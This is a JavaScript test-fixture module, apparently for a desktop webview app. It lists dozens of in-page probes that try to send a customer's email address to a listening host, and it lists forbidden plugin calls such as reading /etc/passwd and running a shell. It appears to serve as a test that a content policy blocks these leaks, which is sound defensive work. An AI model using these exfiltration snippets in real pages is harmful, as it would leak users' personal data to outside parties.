// Ways in which a page could send a customer's data away, each as a function that runs in the page. `at` is where somebody listens; the
// answer says what the page saw of it. Every one of them reaches the listener from a plain page, which the control shows.

const SECRET = "anna.koch%40post.example";

/** Waits for whichever comes first; a page is told of most refusals, but not of all. */
const HEAR = `const hear = (start) => new Promise((done) => { const end = (what) => done(String(what)); start(end); setTimeout(() => end("nothing was heard"), 1500); });`;

const probe = (name, body) => ({ name, script: `async (at) => { ${HEAR} try { ${body} } catch (fault) { return "threw " + fault.name; } }` });

const url = (name) => "`http://${at}/" + name + "?" + SECRET + "`";

export const PROBES = [
  probe("fetch", `return await fetch(${url("fetch")}).then(() => "sent", (no) => "refused " + no.name);`),
  probe("fetch-no-cors", `return await fetch(${url("fetch-no-cors")}, { mode: "no-cors", method: "POST", body: "x" }).then(() => "sent", (no) => "refused " + no.name);`),
  probe("keepalive", `return await fetch(${url("keepalive")}, { keepalive: true, method: "POST", body: "x" }).then(() => "sent", (no) => "refused " + no.name);`),
  probe("xhr", `return await hear((end) => { const ask = new XMLHttpRequest(); ask.onload = () => end("sent"); ask.onerror = () => end("refused"); ask.open("GET", ${url("xhr")}); ask.send(); });`),
  probe("image", `return await hear((end) => { const image = new Image(); image.onload = () => end("sent"); image.onerror = () => end("refused"); image.src = ${url("image")}; });`),
  probe("svg-image", `return await hear((end) => { const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg"); const image = document.createElementNS("http://www.w3.org/2000/svg", "image"); image.addEventListener("error", () => end("refused")); image.addEventListener("load", () => end("sent")); image.setAttribute("href", ${url("svg-image")}); svg.append(image); document.body.append(svg); });`),
  probe("css-url", `return await hear((end) => { const box = document.createElement("div"); box.style.backgroundImage = "url(" + ${url("css-url")} + ")"; box.textContent = "x"; document.body.append(box); document.addEventListener("securitypolicyviolation", () => end("refused"), { once: true }); });`),
  probe("css-import", `return await hear((end) => { const style = document.createElement("style"); style.textContent = "@import url(" + ${url("css-import")} + ");"; style.onerror = () => end("refused"); style.onload = () => end("read"); document.head.append(style); });`),
  probe("stylesheet", `return await hear((end) => { const link = document.createElement("link"); link.rel = "stylesheet"; link.href = ${url("stylesheet")}; link.onerror = () => end("refused"); link.onload = () => end("sent"); document.head.append(link); });`),
  probe("font", `const face = new FontFace("x", "url(" + ${url("font")} + ")"); return await face.load().then(() => "sent", (no) => "refused " + no.name);`),
  probe("prefetch", `return await hear((end) => { const link = document.createElement("link"); link.rel = "prefetch"; link.href = ${url("prefetch")}; link.onerror = () => end("refused"); link.onload = () => end("sent"); document.head.append(link); });`),
  probe("preload", `return await hear((end) => { const link = document.createElement("link"); link.rel = "preload"; link.as = "fetch"; link.href = ${url("preload")}; link.onerror = () => end("refused"); link.onload = () => end("sent"); document.head.append(link); });`),
  probe("preconnect", `return await hear(() => { const link = document.createElement("link"); link.rel = "preconnect"; link.href = "http://" + at + "/"; document.head.append(link); });`),
  probe("send-beacon", `return "queued " + navigator.sendBeacon(${url("send-beacon")}, "x");`),
  probe("ping", `return await hear(() => { const link = document.createElement("a"); link.ping = ${url("ping")}; link.href = "#ping"; document.body.append(link); link.click(); });`),
  probe("web-socket", `return await hear((end) => { const socket = new WebSocket("ws://" + at + "/web-socket"); socket.onopen = () => end("sent"); socket.onerror = () => end("refused"); socket.onclose = () => end("closed"); });`),
  probe("event-source", `return await hear((end) => { const source = new EventSource(${url("event-source")}); source.onerror = () => { source.close(); end("refused"); }; source.onopen = () => end("sent"); });`),
  probe("worker", `return await hear((end) => { const worker = new Worker(${url("worker")}); worker.onerror = () => end("refused"); worker.onmessage = () => end("sent"); });`),
  probe("worker-import", `return await hear((end) => { const code = new Blob(["importScripts('" + ${url("worker-import")} + "')"], { type: "text/javascript" }); const worker = new Worker(URL.createObjectURL(code)); worker.onerror = () => end("refused"); });`),
  probe("module-import", `return await import(${url("module-import")}).then(() => "sent", (no) => "refused " + no.name);`),
  probe("script", `return await hear((end) => { const script = document.createElement("script"); script.src = ${url("script")}; script.onerror = () => end("refused"); script.onload = () => end("sent"); document.head.append(script); });`),
  probe("inline-script", `window.inlineRan = false; const script = document.createElement("script"); script.textContent = "window.inlineRan = true; new Image().src = '" + ${url("inline-script")} + "'"; document.head.append(script); return "ran " + window.inlineRan;`),
  probe("inline-handler", `return await hear((end) => { window.handlerRan = end; const box = document.createElement("div"); box.innerHTML = "<img src=x onerror=\\"window.handlerRan('ran'); new Image().src='" + ${url("inline-handler")} + "'\\">"; document.body.append(box); document.addEventListener("securitypolicyviolation", () => end("refused"), { once: true }); });`),
  probe("iframe", `return await hear((end) => { const frame = document.createElement("iframe"); frame.onload = () => end("loaded"); frame.src = ${url("iframe")}; document.body.append(frame); document.addEventListener("securitypolicyviolation", () => end("refused"), { once: true }); });`),
  probe("iframe-srcdoc", `return await hear((end) => { const frame = document.createElement("iframe"); frame.onload = () => end("loaded"); frame.srcdoc = "<img src='" + ${url("iframe-srcdoc")} + "'>"; document.body.append(frame); document.addEventListener("securitypolicyviolation", () => end("refused"), { once: true }); });`),
  probe("object", `return await hear((end) => { const object = document.createElement("object"); object.data = ${url("object")}; object.onerror = () => end("refused"); object.onload = () => end("sent"); document.body.append(object); document.addEventListener("securitypolicyviolation", () => end("refused"), { once: true }); });`),
  probe("media", `return await hear((end) => { const media = document.createElement("video"); media.onerror = () => end("refused"); media.src = ${url("media")}; document.body.append(media); media.load(); });`),
  probe("form-frame", `return await hear((end) => { const frame = document.createElement("iframe"); frame.name = "target"; document.body.append(frame); const form = document.createElement("form"); form.action = ${url("form-frame")}; form.method = "post"; form.target = "target"; document.body.append(form); document.addEventListener("securitypolicyviolation", () => end("refused"), { once: true }); form.submit(); });`),
  probe("window-open", `const other = window.open(${url("window-open")}); return other === null ? "refused" : "opened";`),
  probe("blank-link", `return await hear(() => { const link = document.createElement("a"); link.href = ${url("blank-link")}; link.target = "_blank"; document.body.append(link); link.click(); });`),
  probe("download", `return await hear(() => { const link = document.createElement("a"); link.href = ${url("download")}; link.download = "x"; document.body.append(link); link.click(); });`),
];

/** Those that would take the page itself away; one after the other, the page must still be there. */
export const LEAVING = [
  probe("link", `const link = document.createElement("a"); link.href = ${url("link")}; document.body.append(link); link.click(); return "clicked";`),
  probe("location", `location.href = ${url("location")}; return "went";`),
  probe("location-replace", `location.replace(${url("location-replace")}); return "went";`),
  probe("form", `const form = document.createElement("form"); form.action = ${url("form")}; document.body.append(form); form.submit(); return "submitted";`),
  probe("refresh", `const meta = document.createElement("meta"); meta.httpEquiv = "refresh"; meta.content = "0;url=" + ${url("refresh")}; document.head.append(meta); return "waits";`),
];

/** Plugins and commands that no page may ask for, with what they would do. */
export const UNGRANTED = [
  ["plugin:fs|read_text_file", { path: "/etc/passwd" }],
  ["plugin:fs|write_text_file", { path: "/tmp/x", contents: "x" }],
  ["plugin:shell|execute", { program: "sh", args: ["-c", "true"] }],
  ["plugin:shell|open", { path: "http://127.0.0.1/" }],
  ["plugin:http|fetch", { clientConfig: { url: "http://127.0.0.1/" } }],
  ["plugin:opener|open_url", { url: "http://127.0.0.1/" }],
  ["plugin:opener|open_path", { path: "/etc/passwd" }],
  ["plugin:opener|reveal_item_in_dir", { paths: ["/etc/passwd"] }],
  ["plugin:dialog|open", { options: {} }],
  ["plugin:dialog|save", { options: {} }],
  ["plugin:sql|execute", { query: "SELECT 1" }],
  ["plugin:process|exit", { code: 0 }],
  ["plugin:updater|check", {}],
  ["plugin:clipboard-manager|read_text", {}],
  ["plugin:webview|create_webview_window", { options: { label: "x", url: "http://127.0.0.1/" } }],
  ["plugin:webview|create_webview", { windowLabel: "main", label: "x", options: { url: "http://127.0.0.1/" } }],
  ["plugin:window|close", {}],
  ["plugin:window|create", { options: { label: "x" } }],
  ["plugin:event|emit", { event: "handed", payload: [] }],
  ["plugin:path|resolve_directory", { directory: 6 }],
  ["plugin:app|app_hide", {}],
  ["plugin:image|from_path", { path: "/etc/passwd" }],
  ["plugin:menu|popup", {}],
  ["plugin:window-state|save_window_state", { flags: 0 }],
  ["no_such_command", {}],
  ["__proto__", {}],
  ["../start", {}],
];
